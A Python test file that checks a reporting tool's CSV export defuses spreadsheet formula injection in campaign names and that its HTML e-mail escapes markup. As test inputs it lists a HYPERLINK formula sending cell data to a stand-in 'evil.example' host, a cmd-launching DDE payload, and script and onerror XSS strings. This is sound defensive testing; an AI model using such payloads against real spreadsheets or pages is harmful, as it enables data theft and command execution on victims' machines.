"""CSV attachments: client-controlled text never arrives as a live spreadsheet formula; numbers stay numbers;
and the HTML report shows the same text escaped (featurepulse/reporting/csv_export.py, render.py)."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest

from featurepulse.reporting.csv_export import result_to_csv
from featurepulse.reporting.periods import Period
from featurepulse.reporting.queries import QUERY_NAMES
from featurepulse.reporting.render import render_html
from featurepulse.reporting.report import ReportData
from featurepulse.reporting.runners import QueryResult

COLUMNS = ("campaign_source", "campaign_name", "campaign_reached", "campaign_conversion_rate", "difference")


def cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


@pytest.mark.parametrize(
    "name",
    [
        '=HYPERLINK("https://evil.example/?"&A1, "Click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\0=1+1",
    ],
)
def test_a_campaign_name_that_starts_like_a_formula_arrives_as_text(name: str) -> None:
    # Given a campaign name set through a UTM parameter that a spreadsheet would evaluate
    result = QueryResult("campaign_attribution", COLUMNS, ({"campaign_source": "ads", "campaign_name": name},))
    # When the table is exported as CSV
    (_, row) = cells(result_to_csv(result))
    # Then the cell starts with a quote (shown as typed, never evaluated) followed by the name, unchanged
    assert row[1] == "'" + name


def test_numbers_stay_numbers_even_negative_and_ordinary_text_is_untouched() -> None:
    # Given a row with ordinary text, counts, a rate, a negative difference and a Decimal
    row = {
        "campaign_source": "newsletter",
        "campaign_name": "spring-sale = 20% off",
        "campaign_reached": 120,
        "campaign_conversion_rate": 0.25,
        "difference": -0.05,
    }
    result = QueryResult("campaign_attribution", COLUMNS, (row, {**row, "difference": Decimal("-3")}))
    # When exported
    _, first, second = cells(result_to_csv(result))
    # Then numbers are written as numbers (no quote), and text without a formula prefix is as sent
    assert first == ["newsletter", "spring-sale = 20% off", "120", "0.25", "-0.05"]
    assert second[-1] == "-3"


def test_the_html_report_shows_markup_and_formulas_in_campaign_names_as_text() -> None:
    # Given a campaign whose name is markup and one that is a formula
    rows = (
        {"campaign_source": "<script>alert(1)</script>", "campaign_name": '"><img src=x onerror=alert(1)>'},
        {"campaign_source": "ads", "campaign_name": '=HYPERLINK("https://evil.example")'},
    )
    results = {name: QueryResult(name, (), ()) for name in QUERY_NAMES}
    results["campaign_attribution"] = QueryResult("campaign_attribution", COLUMNS, rows)
    data = ReportData(
        period=Period.containing("day", date(2026, 3, 10)),
        generated_at=datetime(2026, 3, 11, 6, tzinfo=UTC),
        engine="duckdb",
        kpis=(),
        results=results,
        experiments=(),
    )
    # When the e-mail is rendered
    page = render_html(data, [])
    # Then the markup is escaped: nothing can run in the HTML
    assert "<script>" not in page and "<img" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "&quot;&gt;&lt;img src=x onerror=alert(1)&gt;" in page
    assert "=HYPERLINK(&quot;https://evil.example&quot;)" in page
